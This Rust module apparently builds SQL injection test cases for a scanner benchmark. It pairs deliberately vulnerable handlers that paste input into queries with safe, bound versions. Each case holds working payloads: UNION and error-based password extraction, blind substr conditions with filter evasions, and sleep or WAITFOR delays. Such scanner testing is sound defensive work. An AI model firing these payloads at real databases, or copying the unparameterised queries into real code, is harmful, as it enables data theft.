//! SQL injection: errors, unions, conditions and time.

use super::HALF;
use crate::case::Place::{Cookie, Form, Graphql, Header, Json, Multipart, Path, Query, QueryForm, Xml};
use crate::case::{Case, Family, Hit, Place};
use crate::engine::sql::{Dialect, HIDDEN, PASSWORD};
use crate::filter::Filter;
use crate::http::Reply;
use crate::page::{Tells, bound, sql};
use crate::proof::{Proof, shows};
use crate::world::World;

/// A statement with the value in place of `{v}`.
fn run(
    dialect: Dialect,
    tells: Tells,
    statement: &'static str,
) -> impl Fn(&World, &Hit<'_>) -> Reply + Send + Sync {
    move |w, h| sql(w, h, dialect, tells, &statement.replace("{v}", &h.value))
}

/// A statement with the value bound.
fn safe(tells: Tells, statement: &'static str) -> impl Fn(&World, &Hit<'_>) -> Reply + Send + Sync {
    move |w, h| bound(w, h, Dialect::Sqlite, tells, statement, &[&h.value])
}

const BY_NAME: &str = "SELECT id, name, price FROM products WHERE released = 1 AND name = '{v}'";
const BY_ID: &str = "SELECT id, name, price FROM products WHERE released = 1 AND id = {v}";
const BOUND_NAME: &str = "SELECT id, name, price FROM products WHERE released = 1 AND name = ?1";
const BOUND_ID: &str = "SELECT id, name, price FROM products WHERE released = 1 AND id = ?1";

pub(super) fn error() -> Vec<Case> {
    use Dialect::{MsSql, MySql, Oracle, Postgres, Sqlite};
    use Tells::Errors;
    let mut f = Family::new("sql-error", HALF, &[150003, 150012], &[89]);
    let hidden = || shows("x' OR released = 0 -- ", HIDDEN);
    f.bad(
        "sqlite-text",
        Query("name"),
        "the value stands in quotes, its own quote ends them; errors are shown",
        hidden(),
        run(Sqlite, Errors, BY_NAME),
    );
    f.bad(
        "sqlite-number",
        Query("id"),
        "the value stands where a number does; errors are shown",
        shows("1 OR released=0", HIDDEN),
        run(Sqlite, Errors, BY_ID),
    )
    .sample("1");
    f.bad("sqlite-post", Form("name"), "the same in a posted form", hidden(), run(Sqlite, Errors, BY_NAME));
    f.bad(
        "sqlite-json",
        Json("filter.name"),
        "the same in a nested JSON member",
        hidden(),
        run(Sqlite, Errors, BY_NAME),
    )
    .qids(&[150003, 150012, 150093]);
    f.bad("sqlite-path", Path, "the same in the path", hidden(), run(Sqlite, Errors, BY_NAME));
    f.bad(
        "sqlite-brackets",
        Query("name"),
        "the value stands in quotes within two brackets",
        shows("x')) OR (released = 0) -- ", HIDDEN),
        run(
            Sqlite,
            Errors,
            "SELECT id, name FROM products WHERE released = 1 AND ((name = '{v}') OR (category = 'x'))",
        ),
    );
    f.bad(
        "sqlite-order-by",
        Query("sort"),
        "the value names the column to sort by",
        shows(
            "CASE WHEN (SELECT 1 FROM users WHERE password = 'hidden-nightjar-77') THEN -id ELSE id END",
            "<table><tr><td>4</td>",
        ),
        run(Sqlite, Errors, "SELECT id, name, price FROM products ORDER BY {v}"),
    )
    .sample("id");
    f.bad(
        "mysql-text",
        Query("name"),
        "a MySQL application shows its errors",
        shows("x' OR released = 0 # ", HIDDEN),
        run(MySql, Errors, BY_NAME),
    );
    f.bad(
        "mysql-double",
        QueryForm("name"),
        "the value stands in double quotes",
        shows("x\" OR released = 0 -- ", HIDDEN),
        run(MySql, Errors, "SELECT id, name FROM products WHERE released = 1 AND name = \"{v}\""),
    );
    f.bad(
        "mysql-insert",
        Form("page"),
        "the value is inserted; the error says what a subquery found",
        shows("x', extractvalue(1, concat(0x7e, (SELECT password FROM users WHERE id = 2)))) -- ", PASSWORD),
        run(MySql, Errors, "INSERT INTO visits (id, agent, page) VALUES (1, '{v}', 'home')"),
    );
    f.bad(
        "mssql-number",
        Query("id"),
        "a SQL Server application shows a failed conversion",
        shows("convert(int, (SELECT password FROM users WHERE id = 2))", PASSWORD),
        run(MsSql, Errors, BY_ID),
    )
    .sample("1");
    f.bad(
        "mssql-text",
        Query("name"),
        "a SQL Server application shows its errors",
        hidden(),
        run(MsSql, Errors, BY_NAME),
    );
    f.bad(
        "oracle-text",
        Query("name"),
        "an Oracle application shows its errors",
        hidden(),
        run(Oracle, Errors, BY_NAME),
    );
    f.bad(
        "header-agent",
        Header("User-Agent"),
        "the browser's name stands in the statement",
        shows("x' OR released = 0 #", HIDDEN),
        run(MySql, Errors, BY_NAME),
    )
    .qids(&[150047, 150003, 150012]);
    f.bad(
        "cookie",
        Cookie("basket"),
        "a cookie stands in the statement",
        hidden(),
        run(Sqlite, Errors, BY_NAME),
    )
    .qids(&[150047, 150003, 150012]);
    f.bad(
        "postgres-text",
        Query("name"),
        "a PostgreSQL application shows its errors",
        hidden(),
        run(Postgres, Errors, BY_NAME),
    )
    .needs("postgres");

    f.good(
        "bound-text",
        Query("name"),
        "the value is bound, not written",
        hidden(),
        safe(Errors, BOUND_NAME),
    );
    f.good("bound-post", Form("name"), "the value is bound", hidden(), safe(Errors, BOUND_NAME));
    f.good("bound-json", Json("filter.name"), "the value is bound", hidden(), safe(Errors, BOUND_NAME))
        .qids(&[150003, 150012, 150093]);
    f.good(
        "doubled",
        QueryForm("name"),
        "quotes are doubled, as the standard asks",
        hidden(),
        run(Sqlite, Errors, BY_NAME),
    )
    .filter(Filter::DoubleQuotes);
    f.good(
        "digits",
        Query("id"),
        "only digits are taken",
        shows("1 OR released=0", HIDDEN),
        run(Sqlite, Errors, BY_ID),
    )
    .filter(Filter::Digits)
    .sample("1");
    f.good("error-text-only", Query("topic"), "a page about errors quotes one, whatever is asked", hidden(), |_, _| {
        Reply::html("<h1>Knowledge base</h1><p>Why do I see <code>You have an error in your SQL syntax</code>? See chapter 4.</p>")
    });
    f.cases()
}

pub(super) fn union() -> Vec<Case> {
    use Dialect::{MySql, Oracle, Postgres, Sqlite};
    use Tells::Rows;
    let mut f = Family::new("sql-union", HALF, &[150003, 150012], &[89]);
    f.bad(
        "three-columns",
        Query("name"),
        "another SELECT adds its rows",
        shows("x' UNION SELECT id, password, 1 FROM users -- ", PASSWORD),
        run(Sqlite, Rows, BY_NAME),
    );
    f.bad(
        "number",
        Query("id"),
        "another SELECT adds its rows, no quote is needed",
        shows("-1 UNION SELECT 1, password, 3 FROM users", PASSWORD),
        run(Sqlite, Rows, BY_ID),
    )
    .sample("1");
    f.bad(
        "like",
        QueryForm("q"),
        "the value stands in a LIKE pattern",
        shows("zz' UNION SELECT name, password FROM users -- ", PASSWORD),
        run(Sqlite, Rows, "SELECT name, price FROM products WHERE released = 1 AND name LIKE '%{v}%'"),
    );
    f.bad("mysql-post", Form("category"), "five columns, posted", shows("x' UNION SELECT 1,password,3,4,5 FROM users # ", PASSWORD), run(
        MySql,
        Rows,
        "SELECT id, name, category, price, released FROM products WHERE released = 1 AND category = '{v}'",
    ))
    .sample("fruit");
    f.bad(
        "xml",
        Xml("name"),
        "the value comes in an XML body",
        shows("x' UNION SELECT id, password, 1 FROM users -- ", PASSWORD),
        run(Sqlite, Rows, BY_NAME),
    )
    .qids(&[150003, 150012, 150093]);
    f.bad(
        "oracle",
        Query("name"),
        "Oracle's words",
        shows("x' UNION SELECT id, password, 1 FROM users -- ", PASSWORD),
        run(Oracle, Rows, BY_NAME),
    );
    f.bad(
        "postgres",
        Query("id"),
        "PostgreSQL itself",
        shows("0 UNION SELECT 1, password, 3 FROM users", PASSWORD),
        run(Postgres, Rows, BY_ID),
    )
    .sample("1")
    .needs("postgres");
    f.good(
        "bound",
        Query("name"),
        "the value is bound",
        shows("x' UNION SELECT id, password, 1 FROM users -- ", PASSWORD),
        safe(Rows, BOUND_NAME),
    );
    f.good(
        "bound-like",
        QueryForm("q"),
        "the pattern is bound",
        shows("zz' UNION SELECT name, password FROM users -- ", PASSWORD),
        safe(Rows, "SELECT name, price FROM products WHERE released = 1 AND name LIKE '%' || ?1 || '%'"),
    );
    f.good(
        "known-words",
        Query("category"),
        "only known categories are taken",
        shows("x' UNION SELECT 1,password,3 FROM users -- ", PASSWORD),
        |w, h| {
            let category = match h.value.as_str() {
                "vegetable" => "vegetable",
                _ => "fruit",
            };
            sql(
                w,
                h,
                Sqlite,
                Rows,
                &format!(
                    "SELECT id, name, price FROM products WHERE released = 1 AND category = '{category}'"
                ),
            )
        },
    )
    .sample("fruit");
    f.cases()
}

/// A condition that is true about a row that no page shows.
fn asks(value: &str) -> Proof {
    Proof::Steps(match value {
        "text" => |p| {
            differs(
                p,
                "apple' AND (SELECT substr(password,1,6) FROM users WHERE id=2)='hidden' -- ",
                "apple' AND (SELECT substr(password,1,6) FROM users WHERE id=2)='xxxxxx' -- ",
            )
        },
        "number" => |p| {
            differs(
                p,
                "1 AND (SELECT substr(password,1,6) FROM users WHERE id=2)='hidden'",
                "1 AND (SELECT substr(password,1,6) FROM users WHERE id=2)='xxxxxx'",
            )
        },
        "blankless" => |p| {
            differs(
                p,
                "apple'/**/AND/**/(SELECT/**/substr(password,1,6)/**/FROM/**/users/**/WHERE/**/id=2)='hidden'/**/--",
                "apple'/**/AND/**/(SELECT/**/substr(password,1,6)/**/FROM/**/users/**/WHERE/**/id=2)='xxxxxx'/**/--",
            )
        },
        "upper" => |p| {
            differs(
                p,
                "apple' AND (SeLeCt substr(password,1,6) FROM users WHERE id=2)='hidden' AND '1'='1",
                "apple' AND (SeLeCt substr(password,1,6) FROM users WHERE id=2)='xxxxxx' AND '1'='1",
            )
        },
        "base64" => |p| {
            differs(
                p,
                "YXBwbGUnIEFORCAoU0VMRUNUIHN1YnN0cihwYXNzd29yZCwxLDYpIEZST00gdXNlcnMgV0hFUkUgaWQ9Mik9J2hpZGRlbicgLS0g",
                "YXBwbGUnIEFORCAoU0VMRUNUIHN1YnN0cihwYXNzd29yZCwxLDYpIEZST00gdXNlcnMgV0hFUkUgaWQ9Mik9J3h4eHh4eCcgLS0g",
            )
        },
        _ => |p| {
            differs(
                p,
                "id*(CASE WHEN (SELECT substr(password,1,6) FROM users WHERE id=2)='hidden' THEN 1 ELSE -1 END)",
                "id*(CASE WHEN (SELECT substr(password,1,6) FROM users WHERE id=2)='xxxxxx' THEN 1 ELSE -1 END)",
            )
        },
    })
}

/// Whether the answers to a true and a false condition differ.
fn differs(p: &crate::proof::Prover<'_>, yes: &str, no: &str) -> Result<bool, String> {
    Ok(p.value(yes)?.text() != p.value(no)?.text())
}

pub(super) fn boolean() -> Vec<Case> {
    use Dialect::{MsSql, MySql, Oracle, Postgres, Sqlite};
    use Tells::Whether;
    let mut f = Family::new("sql-boolean", HALF, &[150012, 150003], &[89]);
    f.bad(
        "text",
        Query("name"),
        "the page says whether there are rows; errors look like none",
        asks("text"),
        run(Sqlite, Whether, BY_NAME),
    );
    f.bad("number", Query("id"), "the same without quotes", asks("number"), run(Sqlite, Whether, BY_ID))
        .sample("1");
    f.bad("post", Form("name"), "the same in a posted form", asks("text"), run(MySql, Whether, BY_NAME));
    f.bad("json", Json("name"), "the same in a JSON body", asks("text"), run(Sqlite, Whether, BY_NAME))
        .qids(&[150012, 150003, 150093]);
    f.bad(
        "graphql",
        Graphql("name"),
        "the same in a variable of GraphQL",
        asks("text"),
        run(Sqlite, Whether, BY_NAME),
    )
    .qids(&[150012, 150003, 150093]);
    f.bad(
        "multipart",
        Multipart("name"),
        "the same in a multipart form",
        asks("text"),
        run(MsSql, Whether, BY_NAME),
    );
    f.bad("cookie", Cookie("last"), "the same in a cookie", asks("text"), run(Sqlite, Whether, BY_NAME))
        .qids(&[150012, 150003, 150047]);
    f.bad(
        "header",
        Header("X-Forwarded-For"),
        "the same in a header",
        asks("text"),
        run(Oracle, Whether, BY_NAME),
    )
    .qids(&[150012, 150003, 150047]);
    f.bad(
        "no-blanks",
        Query("name"),
        "blanks are removed, comments separate as well",
        asks("blankless"),
        run(Sqlite, Whether, BY_NAME),
    )
    .filter(Filter::NoBlanks);
    f.bad(
        "refuses-exact",
        Query("name"),
        "the words UNION and SELECT are refused as they are written, in other letters not",
        asks("upper"),
        run(MySql, Whether, BY_NAME),
    )
    .filter(Filter::RefuseExact(&["UNION", "SELECT", "union", "select", "--", "#"]));
    f.bad("base64", Query("key"), "the value comes as base64", asks("base64"), run(Sqlite, Whether, BY_NAME))
        .filter(Filter::Base64)
        .sample("YXBwbGU=");
    f.bad(
        "order",
        Query("sort"),
        "the value names the column to sort by; only the order shows",
        asks("order"),
        run(Sqlite, Tells::Rows, "SELECT id, name FROM products WHERE released = 1 ORDER BY {v}"),
    )
    .sample("name");
    f.bad("postgres", Query("name"), "PostgreSQL itself", asks("text"), run(Postgres, Whether, BY_NAME))
        .needs("postgres");
    f.good("bound", Query("name"), "the value is bound", asks("text"), safe(Whether, BOUND_NAME));
    f.good(
        "bound-id",
        Query("id"),
        "the value is bound; a wrong number finds nothing",
        asks("number"),
        safe(Whether, BOUND_ID),
    )
    .sample("1");
    f.good("bound-cookie", Cookie("last"), "the value is bound", asks("text"), safe(Whether, BOUND_NAME))
        .qids(&[150012, 150003, 150047]);
    f.good(
        "search-words",
        Query("name"),
        "a search in memory: other words find other things, but nothing is a condition",
        asks("text"),
        |_, h| {
            Reply::html(if ["apple", "banana", "carrot"].contains(&h.value.as_str()) {
                "<p>In stock.</p>"
            } else {
                "<p>Not in stock.</p>"
            })
        },
    );
    f.good("columns", Query("sort"), "only known columns are sorted by", asks("order"), |w, h| {
        let column = if h.value == "price" { "price" } else { "name" };
        sql(
            w,
            h,
            Sqlite,
            Tells::Rows,
            &format!("SELECT id, name FROM products WHERE released = 1 ORDER BY {column}"),
        )
    })
    .sample("name");
    f.cases()
}

pub(super) fn time() -> Vec<Case> {
    use Dialect::{MsSql, MySql, Oracle, Postgres};
    use Tells::Nothing;
    let mut f = Family::new("sql-time", HALF, &[150012, 150003], &[89]);
    let delay = |value: &str| Proof::Delays(value.to_owned());
    let safe_for = |place: Place| (place, "the value is bound", delay("x' OR sleep({s}) -- "));
    f.bad(
        "mysql-text",
        Query("name"),
        "the page says nothing, but waits",
        delay("x' OR sleep({s}) -- "),
        run(MySql, Nothing, "SELECT id FROM products WHERE id = 1 AND name = '{v}' LIMIT 1"),
    );
    f.bad(
        "mysql-number",
        Query("id"),
        "the same without quotes",
        delay("1 AND sleep({s})"),
        run(MySql, Nothing, "SELECT id FROM products WHERE id = {v}"),
    )
    .sample("1");
    f.bad(
        "mysql-insert",
        Form("page"),
        "the value is inserted",
        delay("x' || sleep({s}) || '"),
        run(MySql, Nothing, "INSERT INTO visits VALUES (1, 'agent', '{v}')"),
    );
    f.bad(
        "mysql-update",
        Json("page"),
        "the value is written by an UPDATE",
        delay("x' || sleep({s}) || '"),
        run(MySql, Nothing, "UPDATE products SET category = '{v}' WHERE id = 3"),
    )
    .qids(&[150012, 150003, 150093]);
    f.bad(
        "mssql-text",
        Query("name"),
        "a second statement waits",
        delay("x'; WAITFOR DELAY '0:0:{s}' -- "),
        run(MsSql, Nothing, BY_NAME),
    );
    f.bad(
        "mssql-cookie",
        Cookie("visitor"),
        "the same in a cookie",
        delay("x'; WAITFOR DELAY '0:0:{s}' -- "),
        run(MsSql, Nothing, BY_NAME),
    )
    .qids(&[150012, 150003, 150047]);
    f.bad(
        "oracle-text",
        Query("name"),
        "a pipe is waited for",
        delay("x' OR 1=dbms_pipe.receive_message('a',{s}) -- "),
        run(Oracle, Nothing, "SELECT id FROM products WHERE id = 1 AND name = '{v}'"),
    );
    f.bad(
        "header",
        Header("Referer"),
        "the page one came from stands in the statement",
        delay("x' || sleep({s}) || '"),
        run(MySql, Nothing, "INSERT INTO visits VALUES (2, '{v}', 'p')"),
    )
    .qids(&[150012, 150003, 150047]);
    f.bad(
        "postgres",
        Query("name"),
        "PostgreSQL itself",
        delay("x'; SELECT pg_sleep({s}) -- "),
        run(Postgres, Nothing, BY_NAME),
    )
    .needs("postgres");
    let (place, why, proof) = safe_for(Query("name"));
    f.good("bound", place, why, proof, safe(Nothing, BOUND_NAME));
    let (place, why, proof) = safe_for(Form("page"));
    f.good("bound-insert", place, why, proof, safe(Nothing, "INSERT INTO visits VALUES (1, 'agent', ?1)"));
    f.good(
        "always-slow",
        Query("name"),
        "each answer takes a little while, whatever is asked; the value is bound",
        delay("x' OR sleep({s}) -- "),
        |w, h| {
            std::thread::sleep(std::time::Duration::from_millis(300));
            bound(w, h, Dialect::Sqlite, Nothing, BOUND_NAME, &[&h.value])
        },
    );
    f.cases()
}
